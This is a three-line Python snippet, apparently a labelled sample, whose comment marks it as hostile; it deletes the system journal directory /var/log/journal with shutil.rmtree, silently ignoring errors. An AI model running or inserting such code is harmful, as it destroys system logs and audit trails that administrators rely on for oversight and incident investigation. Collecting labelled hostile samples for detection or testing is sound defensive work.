# hostile: the log directory removed
import shutil

shutil.rmtree("/var/log/journal", ignore_errors=True)
